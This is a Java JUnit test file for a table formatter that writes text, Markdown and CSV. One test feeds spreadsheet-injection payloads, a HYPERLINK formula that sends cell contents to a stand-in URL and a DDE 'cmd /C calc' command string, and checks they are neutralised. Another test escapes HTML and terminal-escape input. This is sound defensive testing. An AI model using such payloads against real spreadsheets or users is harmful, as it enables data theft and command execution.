/* Copyright GSS for DJL authors. SPDX-License-Identifier: Apache-2.0 */
package io.github.gssloss.program.tables;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import org.junit.jupiter.api.Test;

class TableTest {

    @Test
    void columnsHaveTheWidthOfTheirLongestCell() {
        Table table = new Table(1, List.of("name", "x", "value"));
        table.add(List.of("a", "100", "1"));
        table.add(List.of("longer", "2", ""));

        assertThat(table.lines())
                .containsExactly("name      x  value", "a       100      1", "longer    2");
    }

    @Test
    void inMarkdownTheColumnsOfNamesAreCentred() {
        Table table = new Table(1, List.of("name", "x"));
        table.add(List.of("a", 0.5));

        assertThat(table.markdown()).isEqualTo("| name | x |\n| :-: | --: |\n| a | 0.5 |\n");
    }

    @Test
    void commaSeparatedCellsAreQuotedWhereTheyNeedIt() {
        Table table = new Table(1, List.of("name", "x"));
        table.add(List.of("a, \"b\"", -0.1));
        table.add(List.of("c", ""));

        assertThat(table.csv()).isEqualTo("name,x\n\"a, \"\"b\"\"\",-0.1\nc,\n");
    }

    /** Spreadsheets run formulas, and names are those of somebody's folders and classes. */
    @Test
    void aNameIsNoFormulaInASpreadsheet() {
        Table table = new Table(1, List.of("name", "=class ml", "low"));
        table.add(List.of("=HYPERLINK(\"http://x?\"&A2)", "@SUM(A1)", -0.1));
        table.add(List.of("-1+cmd|' /C calc'!A0", "a=b", Double.NEGATIVE_INFINITY));

        assertThat(table.csv().lines())
                .containsExactly(
                        "name,'=class ml,low",
                        "\"'=HYPERLINK(\"\"http://x?\"\"&A2)\",'@SUM(A1),-0.1",
                        "'-1+cmd|' /C calc'!A0,a=b,-Infinity");
        assertThat(table.markdown()).contains("| @SUM(A1) |");
    }

    @Test
    void aRowHasTheHeadersCells() {
        Table table = new Table(0, List.of("a", "b"));

        assertThatThrownBy(() -> table.add(List.of("1")))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessage("row: expected 2 cells, got 1");
    }

    /** Names of cases are names of somebody's folders. */
    @Test
    void aNameStaysInItsCell() {
        Table table = new Table(1, List.of("name", "x"));
        table.add(List.of("a|b\n| c | <img src=x> \u001b[2J\\", "1"));

        assertThat(table.lines())
                .containsExactly(
                        "name                         x", "a|b?| c | <img src=x> ?[2J\\  1");
        assertThat(table.markdown().lines().toList())
                .hasSize(3)
                .last()
                .isEqualTo("| a\\|b?\\| c \\| &lt;img src=x> ?[2J\\\\ | 1 |");
        assertThat(table.csv()).contains("\n\"a|b\n| c |");
    }
}
